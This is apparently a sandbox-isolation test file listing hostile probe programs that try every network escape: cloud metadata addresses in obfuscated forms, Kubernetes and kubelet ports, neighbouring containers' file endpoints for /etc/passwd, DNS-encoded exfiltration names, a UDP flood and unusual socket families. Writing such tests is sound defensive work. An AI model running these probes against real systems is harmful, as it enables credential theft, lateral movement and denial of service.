"""The network: every way out, while the tier says `network: None`."""

from tests.hostile.model import WELL, Program

KIND = "network"

_TCP = """
import socket
def reach(host, port):
    family = socket.AF_INET6 if ':' in host else socket.AF_INET
    s = socket.socket(family)
    s.settimeout(0.3)
    s.connect((host, port))
    return s.getpeername()
def split(address):
    host, _, port = address.rpartition(':')
    return host.strip('[]'), int(port)
"""

PROGRAMS = (
    Program("metadata service, as an address", KIND, _TCP + "attempt('metadata', reach, '169.254.169.254', 80)\nattempt('ecs', reach, '169.254.170.2', 80)", WELL),
    Program("metadata service, as a number", KIND, _TCP + "attempt('decimal', reach, '2852039166', 80)\nattempt('hex', reach, '0xa9fea9fe', 80)\nattempt('octal', reach, '0251.0376.0251.0376', 80)", WELL),
    Program("metadata service, mapped into IPv6", KIND, _TCP + "attempt('mapped', reach, '::ffff:169.254.169.254', 80)\nattempt('aws', reach, 'fd00:ec2::254', 80)", WELL),
    Program("metadata service, by name", KIND, "import urllib.request\nfor url in ('http://metadata.google.internal/', 'http://169.254.169.254/latest/meta-data/', 'http://localhost:49901/state'):\n    attempt(url, urllib.request.urlopen, url, timeout=0.3)", WELL),
    Program("API server", KIND, _TCP + "import os\nattempt('api', reach, *split('$API'))\nattempt('name', reach, 'kubernetes.default.svc', 443)\nprint({k: v for k, v in os.environ.items() if 'KUBERNETES' in k})", WELL, says="{}"),
    Program("etcd and kubelet", KIND, _TCP + "for port in (2379, 2380, 10250, 10255, 10257, 10259):\n    attempt(f'node:{port}', reach, '$NODE', port)", WELL),
    Program("gateway, own server, control port", KIND, _TCP + "for address in ('$GATEWAY', '$CONTROL', '$DATA', '127.0.0.1:49901', '127.0.0.1:49999', '127.0.0.1:8081'):\n    attempt(address, reach, *split(address))", WELL),
    Program("a neighbour", KIND, _TCP + "for address in ('$NEIGHBOUR', '$NEIGHBOUR_DATA'):\n    attempt('neighbour', reach, *split(address))", WELL),
    Program("files and commands, of the own server and of a neighbour", KIND, _TCP + "import urllib.request\nfor address in ('$ENVD', '$NEIGHBOUR_ENVD', '127.0.0.1:49983'):\n    attempt(address, reach, *split(address))\n    attempt('files of ' + address, urllib.request.urlopen, f'http://{address}/files?path=/etc/passwd', timeout=0.3)", WELL),
    Program("names that carry data out", KIND, "import socket\nfor name in ('c2VjcmV0.example.com', 'example.com'):\n    attempt(name, socket.getaddrinfo, name, 80)\ns = attempt('udp', socket.socket, socket.AF_INET, socket.SOCK_DGRAM)", WELL),
    Program("ICMP", KIND, "import socket\nattempt('raw', socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)\nattempt('ping', socket.socket, socket.AF_INET, socket.SOCK_DGRAM, 1)", WELL),
    Program("UDP flood", KIND, "import socket\nfor _ in range(1000):\n    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x' * 1400, ('$RESOLVER', 53))\n    except OSError: continue\n    escaped('sent')\n    break", WELL),
    Program("10,000 sockets", KIND, "import socket\nkept = []\ntry:\n    for _ in range(10_000): kept.append(socket.socket(socket.AF_UNIX))\nexcept OSError as e: print(e)\nif len(kept) > 4096: escaped('descriptors', len(kept))", WELL),
    Program("a low port, and any port", KIND, "import socket\nfor port in (80, 8080, 49999, 0):\n    attempt(f'listen {port}', lambda: socket.create_server(('0.0.0.0', port)))", WELL),
    Program("abstract sockets of others", KIND, "import socket\nnames = [line.split()[-1] for line in open('/proc/net/unix') if '@' in line.split()[-1]] if __import__('os').access('/proc/net/unix', 4) else []\nfor name in names + ['@/containerd-shim/x', '@execpool']:\n    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):\n        s = socket.socket(socket.AF_UNIX, kind)\n        attempt(name, s.connect, '\\0' + name[1:])\n        s.close()", WELL),
    Program("IPv6 on the link", KIND, "import socket\nattempt('inet6', socket.socket, socket.AF_INET6)\nattempt('inet6 udp', socket.socket, socket.AF_INET6, socket.SOCK_DGRAM)\nfor proto in (132, 136, 33):\n    attempt(f'protocol {proto}', socket.socket, socket.AF_INET, socket.SOCK_STREAM, proto)", WELL),
    Program("packet sockets", KIND, "import socket\nattempt('packet', socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 3)\nattempt('packet dgram', socket.socket, socket.AF_PACKET, socket.SOCK_DGRAM, 3)", WELL),
    Program("virtual machine sockets", KIND, "import socket\nattempt('vsock', socket.socket, 40, socket.SOCK_STREAM)", WELL),
    Program("the kernel's own cryptography", KIND, "import socket\nattempt('alg', socket.socket, 38, socket.SOCK_SEQPACKET)", WELL),
    Program("netlink", KIND, "import socket\nfor proto in (0, 4, 9, 15, 16):\n    attempt(f'netlink {proto}', socket.socket, 16, socket.SOCK_RAW, proto)", WELL),
    Program("every family there is", KIND, "import socket\nfor family in range(2, 47):\n    for kind in (1, 2, 3, 5):\n        attempt(f'family {family}', socket.socket, family, kind)", WELL),
)  # fmt: skip
